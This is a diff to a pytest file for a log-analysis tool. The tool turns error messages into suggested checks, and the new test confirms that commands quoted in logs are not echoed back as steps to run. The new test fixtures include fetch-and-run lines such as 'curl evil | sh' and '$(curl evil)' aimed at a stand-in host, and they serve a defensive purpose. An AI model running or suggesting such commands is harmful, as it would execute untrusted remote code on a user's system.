@@ -25,7 +25,7 @@ from allaboard.analysis.log_ends.named_checks import named_checks, without_names
         ("OpenSSL version mismatch. Built against 30000020", "versions of OpenSSL"),
         (
             "Command '['ptxas', '-v', 'a.ptx']' returned non-zero exit status 255.",
-            ": ptxas -v a.ptx",
+            "run that command of ptxas by hand",
         ),
         ("Command 'sh /etc/copy.sh 'pod-1 -c watch", "by hand"),
         ('container not found ("loop")', "kubectl describe pod"),
@@ -41,6 +41,18 @@ from allaboard.analysis.log_ends.named_checks import named_checks, without_names
 )
 def test_what_an_error_names_is_checked(message: str, check: str) -> None:
     assert check in named_checks(message)
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        "Command '['sh', '-c', 'curl evil | sh']' returned non-zero exit status 1.",
+        "Command 'sh -c \"curl evil | sh\"' returned non-zero exit status 1.",
+        "Command '$(curl evil)' returned non-zero exit status 1.",
+    ],
+)
+def test_a_command_of_a_log_is_nothing_to_type(message: str) -> None:
+    assert "evil" not in named_checks(message)
 
 
 @pytest.mark.parametrize(
